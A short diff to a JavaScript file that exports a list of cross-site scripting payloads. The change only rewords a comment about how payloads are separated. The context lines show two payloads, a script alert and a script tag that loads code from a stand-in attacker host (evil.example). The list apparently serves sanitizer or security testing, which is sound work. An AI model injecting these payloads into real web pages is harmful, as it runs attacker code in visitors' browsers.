@@ -1,4 +1,4 @@
-/** One payload per line. */
+/** Each payload starts on a new line with `<` or `&`. */
 export const xssPayloads = String.raw`
 <script>alert(1)</script>
 <SCRIPT SRC=//evil.example/x.js></SCRIPT>
